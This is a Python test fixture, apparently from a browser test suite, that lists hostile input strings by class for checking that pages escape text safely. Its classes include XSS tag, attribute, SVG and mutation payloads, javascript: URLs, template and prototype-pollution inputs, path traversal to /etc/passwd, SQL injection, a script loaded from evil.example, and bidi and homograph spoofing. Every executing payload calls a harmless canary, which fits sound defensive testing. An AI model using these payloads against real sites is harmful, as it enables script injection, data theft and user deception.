"""Texts that mean harm, by class: what a page that builds markup, code, addresses or layout out of text would fall for.

Whatever of them runs calls `CANARY`, which every hostile page defines (tests/browser/hostile.py).
"""

import os
import random
from dataclasses import dataclass

CANARY = "gonetsCanary"
#: Of the texts that are tried each time; drawn anew unless given.
SEED = int(os.environ.get("GONETS_SEED") or random.SystemRandom().randrange(2**32))
_RUN = f"{CANARY}()"
_RLO, _LRO, _PDI, _FSI, _ZWJ, _ZWSP = "\u202e", "\u202d", "\u2069", "\u2068", "\u200d", "\u200b"
_ZALGO = "".join(chr(0x300 + n % 0x70) for n in range(60))

PAYLOADS: dict[str, tuple[str, ...]] = {
    "tag": (
        f"<img src=x onerror={_RUN}>",
        f"<script>{_RUN}</script>",
        f"</textarea></title></style></script><script>{_RUN}</script>",
        f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
        f"<details open ontoggle={_RUN}><summary>tea</details>",
        f"<input autofocus onfocus={_RUN}>",
        f"<video><source onerror={_RUN}></video>",
        f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
        f"<body onload={_RUN} onpageshow={_RUN}>",
        "<plaintext><xmp><noscript><template>",
    ),
    "attribute": (
        f'" autofocus onfocus={_RUN} x="',
        f"' onmouseover='{_RUN}' style='position:fixed;inset:0",
        f"`onclick={_RUN}`",
        f"x\u2028onload={_RUN}",
        f'"><svg/onload={_RUN}>',
        f"=/* */{_RUN}//",
    ),
    "scheme": (
        f"javascript:{_RUN}",
        f"JaVaScRiPt:{_RUN}",
        f"javascript://shop.example/%0a{_RUN}",
        f"data:text/html,<script>{_RUN}</script>",
        f"https://shop.example/{_RLO}gpj.exe",
        "https://shop.example@evil.example/",
        "https://аррlе.example/ https://xn--80ak6aa92e.example/",
        f"vbscript:{_RUN} file:///etc/passwd blob:null/0 view-source:https://shop.example/",
        "//evil.example/x.js \\\\evil.example\\share https:\\\\evil.example",
        "www.evil.example:80/../%2e%2e/?q=<b>#javascript:",
        f"feed:javascript:{_RUN}",
    ),
    "template": (
        f"{{{{constructor.constructor('{_RUN}')()}}}}",
        f"${{{_RUN}}}",
        f"<%= {_RUN} %>#{{{_RUN}}}",
        "{name} {count} {title} {members} {text} {chat} {0}",
        "{count, plural, one {#} other {#'{",
        "%s %d %(name)s %1$s %n {0.__class__}",
        "$& $1 $` $' $$ \\1 \\u0000",
    ),
    "svg": (
        f"<svg onload={_RUN}>",
        f"<svg><script>{_RUN}</script></svg>",
        f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
        f"<svg><a xlink:href='javascript:{_RUN}'><text>tea</text></a></svg>",
        f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
        f"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
        "<svg><use href='http://127.0.0.1:9/x.svg#x'></svg>",
    ),
    "css": (
        "</style><style>*{display:none}</style>",
        "<link rel=stylesheet href=http://127.0.0.1:9/x.css>",
        "red;background:url(http://127.0.0.1:9/x.png)",
        "<style>@import 'http://127.0.0.1:9/x.css'</style>",
        "<div style='position:fixed;inset:0;z-index:9999;background:red'>over</div>",
        "expression(alert(1)); -moz-binding:url(x)",
        "menu-item danger bubble-mine; } * { color: red",
    ),
    "clobbering": (
        "<form id=root><input name=attributes><input name=parentNode></form>",
        "<a id=documentElement></a><img name=location><img name=body>",
        f"<form name={CANARY}></form>",
        "<a id=trustedTypes href=x></a><object name=getElementById>",
        "<iframe name=top></iframe><embed name=origin>",
    ),
    "prototype": (
        "__proto__",
        "constructor",
        "hasOwnProperty",
        "toString",
        "valueOf",
        '{"__proto__": {"isAdmin": true}}',
        "constructor.prototype.innerHTML",
        "null",
        "undefined",
        "NaN",
        "[object Object]",
        "dangerouslySetInnerHTML",
    ),
    "mutation": (
        f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
        f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
        f"<select><template><img src=x onerror={_RUN}></template></select>",
        f"&lt;img src=x onerror={_RUN}&gt; &#60;script&#62; &amp;lt;",
        f"<!--><img src=x onerror={_RUN}>-->",
        f"<![CDATA[<img src=x onerror={_RUN}>]]>",
        f"<x/><script/src=//evil.example>{_RUN}</script",
    ),
    "bidi": (
        f"{_RLO}tea gnihsup a",
        f"photo{_RLO}gpj.exe",
        f"{_LRO}{_RLO}{_FSI}{_FSI}nested",
        f"{_PDI}{_PDI}{_RLO}out of the box",
        "شاي 12,5 tea — ‏שלום‎ (x)",
        "a\u200e\u200f\u061c\u2067b",
    ),
    "invisible": (
        f"pa{_ZWSP}y\u00adp\u2060al\ufeff",
        "\u115f\u3164\uffa0",
        "\u2003\u2003\u3000tea",
        "\U000e0001\U000e0020\U000e0041 tagged",
        "\ufff9under\ufffatop\ufffb",
        "tea\u2028new line\u2029new paragraph\u0085end",
        f"{_ZWJ}{_ZWJ}{_ZWJ}",
    ),
    "huge": (
        "W" * 200,
        "\ufdfd" * 200,
        "wide " * 40,
        "\u0dde" * 100,
        "1" * 199 + ".",
        "\U0001f9d1\u200d\U0001f33e" * 60,
        "\ua9c5\u12031\u2e3b" * 40,
        "-" * 200,
        "https://shop.example/" + "a" * 150,
    ),
    "heaps": (
        f"Z{_ZALGO}a{_ZALGO}l{_ZALGO}",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
        "\U0001f3f4" + "\U000e0067" * 40 + "\U000e007f",
        "e" + "\u0301" * 190,
        "\U0001f3ff" * 40 + "\ufe0f" * 40,
        "\u0e47" * 150,
        "\u20dd\u20de\u20e4\u0488\u0489" * 20 + "tea",
    ),
    "breakers": (
        "((((((((((((((((a+)+)+)+)+)+)+)+)+$",
        "*?[](){}|^$+.\\",
        "\\",
        "'\"`\\",
        "%",
        "%00%0d%0a%2e%2e%2f",
        "../../../../etc/passwd",
        "'; DROP TABLE message; --",
        "\uffff\ufffe\ufdd0",
        "\U0010ffff\ue000",
        "ﬁ İ ı ß ẞ ſ K Å",
        "<<<<<<<<<<<<<<<<<<<<" * 8,
        "a.b.c." * 30,
    ),
}  # fmt: skip

#: What no name or title may be, and JSON can carry: a refusal or a message, never half of one.
UNWRITABLE = ("a\x00b", "a\x01\x1f\x7f\x9fb", "a\r\nb: c", "a\tb\x0b\x0cc", "\x1b[31mred\x1b]0;title\x07")
#: As JSON, since Python's own text cannot be sent with them.
LONE_SURROGATES = ("\\ud83d", "\\ude00\\ud83d", "tea \\udc00 \\ud800")


@dataclass(frozen=True, slots=True)
class Hostile:
    kind: str
    text: str


ALL = tuple(Hostile(kind, text) for kind, texts in PAYLOADS.items() for text in texts)


def one_of_each(seed: int) -> list[Hostile]:
    """A choice that the seed repeats."""
    chance = random.Random(seed)
    return [Hostile(kind, chance.choice(texts)) for kind, texts in PAYLOADS.items()]


def in_batches(size: int) -> list[list[Hostile]]:
    """All of them; a batch holds many classes, so that they meet in one page."""
    deep = max(map(len, PAYLOADS.values()))
    mixed = [Hostile(kind, texts[at]) for at in range(deep) for kind, texts in PAYLOADS.items() if at < len(texts)]
    return [mixed[at : at + size] for at in range(0, len(mixed), size)]
